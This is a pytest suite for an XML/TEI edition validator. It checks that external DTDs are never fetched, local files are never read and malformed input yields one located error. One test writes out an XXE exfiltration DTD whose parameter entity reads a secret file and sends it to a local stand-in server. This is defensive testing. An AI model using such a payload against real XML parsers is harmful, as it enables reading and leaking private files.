"""Hostile and damaged input (issue 10): no DTD is ever loaded, no request is sent, no file outside
the edition is read, and every bad file gives one located line instead of a traceback."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from edition.cli import main
from edition.transform.html import build_html
from edition.transform.pdf import typst_markup
from edition.validate import validate_files
from edition.xmlio import parse_bytes
from edition.xslt import processor

from validate_support import SAMPLE

# Saxon holds the GIL while it parses, so the server must live in another process.
SERVER = """
import http.server, sys
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        sys.stderr.write("REQUEST " + self.path + "\\n"); sys.stderr.flush()
        body = b'<!ENTITY % nothing "">'
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args): pass
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
print(server.server_address[1], flush=True)
server.serve_forever()
"""


class Server:
    def __init__(self, log: Path) -> None:
        self.log = log
        self.proc = subprocess.Popen([sys.executable, "-c", SERVER], stdout=subprocess.PIPE, stderr=log.open("w"), text=True)
        assert self.proc.stdout is not None
        self.url = f"http://127.0.0.1:{int(self.proc.stdout.readline())}"

    @property
    def requests(self) -> int:
        return self.log.read_text().count("REQUEST")


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    s = Server(tmp_path / "requests.log")
    yield s
    s.proc.kill()
    s.proc.wait()


def edition_with(tmp_path: Path, prolog: str = "", body: str = "", header: str = "") -> tuple[Path, Path]:
    """A copy of the sample edition whose essay gets ``prolog`` before <TEI>, ``body`` at the end of
    <body> and ``header`` after its <sourceDesc>."""
    edition = tmp_path / "edition"
    shutil.copytree(SAMPLE, edition)
    essay = edition / "tei" / "essays" / "sample.xml"
    text = essay.read_text(encoding="utf-8")
    text = text.replace("<TEI", prolog + "<TEI", 1).replace("</body>", body + "</body>", 1)
    end = text.index("</sourceDesc>") + len("</sourceDesc>")
    essay.write_text(text[:end] + header + text[end:], encoding="utf-8")
    return edition, essay


def run(*args: object):
    return CliRunner().invoke(main, ["validate", *map(str, args)])


# ---- 1. no DTD, no request, no file read ----


def test_dtd_on_a_server_is_never_requested(tmp_path: Path, server: Server) -> None:
    edition, essay = edition_with(tmp_path, f'<!DOCTYPE TEI SYSTEM "{server.url}/tei.dtd">\n')
    result = run(essay)
    assert result.exit_code == 0, result.output
    assert result.output == "1 file checked, valid: 0 errors, 0 warnings\n"
    assert "Alle Macht den Räten!" in typst_markup(essay, edition)
    build_html(edition, tmp_path / "site")
    assert (tmp_path / "site" / "sample.html").is_file()
    assert server.requests == 0


def test_dtd_with_a_file_entity_is_not_read(tmp_path: Path, server: Server) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-4711", encoding="utf-8")
    dtd = tmp_path / "evil.dtd"
    dtd.write_text(
        f'<!ENTITY % file SYSTEM "{secret.as_uri()}">\n'
        f"<!ENTITY % eval \"<!ENTITY &#x25; leak SYSTEM '{server.url}/?%file;'>\">\n"
        "%eval;\n%leak;\n",
        encoding="utf-8",
    )
    edition, essay = edition_with(tmp_path, f'<!DOCTYPE TEI SYSTEM "{dtd.as_uri()}">\n')
    outputs = [run(essay).output, run("--format", "json", essay).output, typst_markup(essay, edition)]
    build_html(edition, tmp_path / "site")
    outputs += [p.read_text(encoding="utf-8") for p in (tmp_path / "site").glob("*.html")]
    assert not any("SECRET-4711" in out for out in outputs)
    assert server.requests == 0


def test_saxon_itself_refuses_a_doctype(server: Server) -> None:
    """Defence in depth: even XML text with a DOCTYPE handed straight to Saxon loads nothing."""
    with pytest.raises(Exception, match="DOCTYPE is disallowed"):
        processor().parse_xml(xml_text=f'<!DOCTYPE a SYSTEM "{server.url}/a.dtd"><a/>')
    assert server.requests == 0


def test_lxml_does_not_fetch_a_system_id(server: Server) -> None:
    tree = parse_bytes(f'<!DOCTYPE a SYSTEM "{server.url}/a.dtd"><a/>'.encode())
    assert tree.getroot().tag == "a"
    assert server.requests == 0


@pytest.mark.parametrize("system_id", ["/nonexistent/dir/tei.dtd", "http://unreachable.invalid/tei.dtd"])
def test_unreachable_dtd_is_ignored(tmp_path: Path, system_id: str) -> None:
    _, essay = edition_with(tmp_path, f'<!DOCTYPE TEI SYSTEM "{system_id}">\n')
    result = run(essay)
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output


# ---- 2. one located line, never a traceback ----


def test_duplicated_source_desc_is_a_located_error(tmp_path: Path) -> None:
    _, essay = edition_with(tmp_path, header="<sourceDesc><p>again</p></sourceDesc>")
    result = run(essay)
    assert result.exit_code == 1, result.output
    (line, summary) = result.output.splitlines()
    assert line.startswith(f"{essay}:") and ": error: element <sourceDesc> not allowed" in line
    assert summary == "1 file checked, 1 invalid: 1 error, 0 warnings"


@pytest.mark.parametrize("fmt", ["json", "junit"])
def test_duplicated_source_desc_in_machine_formats(tmp_path: Path, fmt: str) -> None:
    _, essay = edition_with(tmp_path, header="<sourceDesc><p>again</p></sourceDesc>")
    result = CliRunner().invoke(main, ["validate", "--format", fmt, str(essay)])
    assert result.exit_code == 1
    assert "Traceback" not in result.output + result.stderr
    if fmt == "json":
        (problem,) = json.loads(result.stdout)["problems"]
        assert problem["rule"] == "relaxng" and "sourceDesc" in problem["message"]


@pytest.mark.parametrize("depth", [101, 180, 250])
def test_deep_nesting_that_lxml_reads_is_validated(tmp_path: Path, depth: int) -> None:
    """lxml reads up to 256 levels; Saxon's parser used to stop at 100 with a traceback."""
    edition, essay = edition_with(tmp_path, body='<div type="section">' * depth + "<p>tief</p>" + "</div>" * depth)
    assert validate_files([essay]) == []
    assert '"tief"' in typst_markup(essay, edition)


def test_nesting_deeper_than_lxml_allows_is_unreadable(tmp_path: Path) -> None:
    _, essay = edition_with(tmp_path, body="<div>" * 300 + "</div>" * 300)
    result = run(essay)
    assert result.exit_code == 2
    (line, _) = result.output.splitlines()
    assert line.startswith(f"{essay}:") and line.endswith("[xml]")


def test_element_name_outside_ascii(tmp_path: Path) -> None:
    _, essay = edition_with(tmp_path, body="<div type=\"section\"><p>Text <straße>x</straße></p></div>")
    result = run(essay.parent.parent.parent)  # the whole edition: the essay is in the $edition context
    assert result.exit_code == 1, result.output
    assert "element <straße> not allowed" in result.output
    assert "Traceback" not in result.output


def test_many_escaped_characters(tmp_path: Path) -> None:
    """Saxon's JDK parser stopped after 100,000 &amp;/&lt; in one document."""
    _, essay = edition_with(tmp_path, body="<div type=\"section\"><p>" + "a &amp; b &lt; c " * 60_000 + "</p></div>")
    assert validate_files([essay]) == []


def test_rules_failing_on_a_file_are_a_located_problem(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever still makes a Schematron rule raise is reported for that file (exit 2), not a crash."""
    schema = tmp_path / "failing.sch"
    schema.write_text(
        '<sch:schema xmlns:sch="http://purl.oclc.org/dsdl/schematron" queryBinding="xslt3">'
        '<sch:pattern><sch:rule context="/*"><sch:assert id="x" test="xs:integer(\'no number\') = 1"'
        ' xmlns:xs="http://www.w3.org/2001/XMLSchema">never</sch:assert></sch:rule></sch:pattern></sch:schema>',
        encoding="utf-8",
    )
    monkeypatch.setattr("edition.validate.run.PROJECT_SCH", schema)
    _, essay = edition_with(tmp_path)
    result = run(essay)
    assert result.exit_code == 2
    (line, _) = result.output.splitlines()
    root_line = next(i for i, text in enumerate(essay.read_text(encoding="utf-8").splitlines(), 1) if "<TEI" in text)
    assert line.startswith(f"{essay}:{root_line}:1: error: the encoding rules could not be checked: ")
    assert line.endswith('Cannot convert string "no number" to an integer [rules]')


def test_parser_message_is_one_line(tmp_path: Path) -> None:
    essay = tmp_path / "broken.xml"
    essay.write_bytes(b'<\x00xml version="1.0"?>\n<TEI/>')
    result = run(essay)
    assert result.exit_code == 2
    (line, _) = result.output.splitlines()
    assert line.startswith(f"{essay}:1:") and line.endswith("[xml]")
